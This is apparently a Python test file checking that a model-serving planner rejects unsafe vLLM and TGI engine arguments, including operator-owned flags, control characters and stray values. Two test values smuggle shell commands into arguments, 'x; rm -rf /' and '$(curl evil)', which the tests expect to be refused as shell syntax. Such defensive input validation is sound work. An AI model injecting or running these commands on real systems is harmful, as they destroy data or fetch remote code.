"""engineArgs: operator-owned flags, shell syntax and stray values are refused, naming the field."""

from __future__ import annotations

import pytest

from llmop.plan.parse import parse_spec
from llmop.plan.planner import plan
from llmop.plan.types import Plan, PlanErrors


def _plan(engine: str, args: list[str]) -> Plan | PlanErrors:
    spec = parse_spec(
        {
            "model": {"name": "meta-llama/Llama-3.1-8B-Instruct"},
            "engine": engine,
            "gpu": {"type": "H100-80GB"},
            "engineArgs": args,
        }
    )
    return spec if isinstance(spec, PlanErrors) else plan(spec)


@pytest.mark.parametrize(
    ("engine", "args", "index", "needle"),
    [
        ("vllm", ["--tensor-parallel-size", "4"], 0, "spec.gpu.count"),
        ("vllm", ["--enforce-eager", "--quantization=awq"], 1, "spec.quantization"),
        ("vllm", ["-tp", "2"], 0, "spec.gpu.count"),
        ("vllm", ["--port", "9000"], 0, "cannot be overridden"),
        ("tgi", ["--num-shard", "2"], 0, "spec.gpu.count"),
        ("tgi", ["--max-total-tokens", "99"], 0, "spec.maxModelLen"),
        ("vllm", ["--served-model-name", "x; rm -rf /"], 1, "shell syntax"),
        ("vllm", ["--chat-template", "$(curl evil)"], 1, "shell syntax"),
        ("vllm", ["stray"], 0, "no flag before it"),
    ],
)
def test_refused(engine: str, args: list[str], index: int, needle: str) -> None:
    result = _plan(engine, args)
    assert isinstance(result, PlanErrors)
    assert any(e.field == f"spec.engineArgs[{index}]" and needle in e.message for e in result.errors), result.errors


def test_control_characters_refused_at_parse() -> None:
    result = _plan("vllm", ["--enforce-eager\n--port", "1"])
    assert isinstance(result, PlanErrors)
    assert result.errors[0].field.startswith("spec.engineArgs") and "control character" in result.errors[0].message


def test_allowed_args_are_appended_after_owned_flags() -> None:
    result = _plan("vllm", ["--enable-prefix-caching", "--max-num-seqs", "128", "--swap-space=4"])
    assert isinstance(result, Plan)
    assert result.args[-4:] == ("--enable-prefix-caching", "--max-num-seqs", "128", "--swap-space=4")
